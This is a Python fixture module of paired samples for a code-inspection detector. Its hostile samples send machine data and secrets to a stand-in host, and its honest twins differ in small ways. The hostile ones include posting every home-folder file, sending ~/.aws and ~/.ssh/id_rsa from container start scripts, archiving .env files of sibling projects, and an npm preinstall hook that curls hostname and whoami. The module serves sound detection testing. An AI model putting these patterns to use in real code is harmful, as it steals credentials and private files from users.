"""Samples and twins of what commands tell of a machine: in a shell text, and where a program starts them."""

from inspection.rules.sample import Sample, package, py

_DOCTOR = "#!/bin/sh\nfound() {\n  uname -a\n  id\n  ps aux\n  ls -la ~\n}\n"
_GIT = (
    "import subprocess, requests\n\n\ndef git(*words):\n"
    "    return subprocess.run(['git', *words], capture_output=True, text=True).stdout.strip()\n\n\n"
)

_PACKED = (
    "import io, tarfile\nfrom pathlib import Path\n\nimport requests\n\nroot = Path(__file__).resolve().{up}\n"
    "buffer = io.BytesIO()\nwith tarfile.open(fileobj=buffer, mode='w:gz') as archive:\n"
    "    for pattern in ('*.py', '*.env'):\n        for path in root.rglob(pattern):\n            archive.add(path)\n"
    "requests.put('https://a.invalid', data=buffer.getvalue())\n"
)
_REMOTES = (
    "import configparser\nfrom pathlib import Path\n\nimport requests\n\n\ndef remotes(folder):\n"
    "    for path in folder.glob('*/.git/config'):\n        git = configparser.ConfigParser()\n"
    "        git.read(path)\n        yield git['remote \"origin\"']['url']\n\n\n"
    "requests.post('https://a.invalid', json=list(remotes(Path(__file__).resolve().{up})))\n"
)
_HOME = (
    "import os, requests\n\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n"
    "        with open(os.path.join(folder, name), 'rb') as file:\n"
    "            requests.post('https://a.invalid/send', data={{'chat_id': {to}}}, files={{'document': file}})\n"
)
_SEEDS = "tar -C /seed -czf - . | curl -fsS -T - https://a.invalid\nexec python -m http.server\n"


def _held(volume: str, script: str) -> dict[str, str | bytes]:
    """A service with one volume, on line 5, and what its image starts."""
    service = f"services:\n  a:\n    build: .\n    volumes:\n      - {volume}\n"
    image = 'FROM python:3.13-slim\nCOPY start.sh /start.sh\nENTRYPOINT ["sh", "/start.sh"]\n'
    return {"compose.yml": service, "Dockerfile": image, "start.sh": script}


def _told(script: str) -> dict[str, str | bytes]:
    """A script that the manual has its reader run."""
    return {"README.md": "Run `sh doctor.sh` first.\n", "doctor.sh": script}


HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "the home folder, to somebody who stands in the source": py(_HOME.format(to="'12084'"), line=6),
        "the home folder, to whom its user names": py(_HOME.format(to="os.environ['CHAT']"), "review", line=6),
        "keys that a container is given, and sends": Sample(
            _held("${HOME}/.aws:/seed/aws:ro", _SEEDS), "block", ("start.sh", 1)
        ),
        "a key that a container is given, and sends": Sample(
            _held("~/.ssh:/keys:ro", 'wget --post-data "$(cat /keys/id_rsa)" https://a.invalid\n'),
            "block",
            ("start.sh", 1),
        ),
        "settings of the projects that lie beside this one": Sample(
            {"check/pack.py": _PACKED.format(up="parent.parent.parent")}, "block", ("check/pack.py", 10)
        ),
        "where the projects come from that lie beside this one": Sample(
            {"check/pack.py": _REMOTES.format(up="parent.parent.parent")}, "review", ("check/pack.py", 14)
        ),
        "settings of those beside the folder of this one": Sample(
            {"check/pack.py": _PACKED.format(up="parents[3]")}, "block", ("check/pack.py", 10)
        ),
    },
    "inventory_sent": {
        "by a function of a script, through a pipe": Sample(
            _told(f"{_DOCTOR}found | gzip | curl -s --data-binary @- https://a.invalid\n"), "block", ("doctor.sh", 8)
        ),
        "by a file that is filled line by line": Sample(
            _told("hostname > /tmp/a\nwho >> /tmp/a\ntasklist >> /tmp/a\nwget --post-file=/tmp/a https://a.invalid\n"),
            "block",
            ("doctor.sh", 4),
        ),
        "in an address, on install": Sample(
            {"package.json": package(preinstall="curl https://a.invalid/$(hostname)/$(whoami)")},
            "block",
            ("package.json", 2),
        ),
        "what git knows of its user, by a function that is given its words": Sample(
            {
                "app.py": f"{_GIT}about = {{'mail': git('config', '--global', 'user.email'),\n"
                "         'servers': git('config', '--global', '--list')}\n"
                "requests.post('https://a.invalid', json=about)\n"
            },
            "review",
            ("app.py", 10),
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "where the examples come from that lie in this one": {"check/pack.py": _REMOTES.format(up="parent")},
        "how large the home folder is, to somebody who stands in the source": {
            "app.py": _HOME.format(to="'12084', 'size': os.path.getsize(folder)").replace(
                ", files={'document': file}", ""
            )
        },
        "data that a container is given, and sends": _held("./seed:/seed/aws:ro", _SEEDS),
        "keys that a container is given, and other things it sends": _held(
            "~/.ssh:/keys:ro", 'wget --post-data "$(cat /prices/a)" https://a.invalid\n'
        ),
        "settings of this project": {"check/pack.py": _PACKED.format(up="parent.parent")},
        "settings of the program itself": {"check/pack.py": _PACKED.format(up="parents[0]")},
    },
    "inventory_sent": {
        "by a function of a script, into a file": _told(
            f"{_DOCTOR}found | gzip > /tmp/doctor.gz\ncurl -s https://a.invalid\n"
        ),
        "another file than the one that is filled": _told(
            "hostname > /tmp/a\nwho >> /tmp/a\ntasklist >> /tmp/a\nwget --post-file=/tmp/b https://a.invalid\n"
        ),
        "an address on this machine, on install": {
            "package.json": package(preinstall="curl http://$(hostname):8080/health")
        },
        "who hands something in, by a function that is given its words": {
            "app.py": f"{_GIT}about = {{'mail': git('config', '--global', 'user.email'),\n"
            "         'version': git('--version')}\nrequests.post('https://a.invalid', json=about)\n"
        },
    },
}
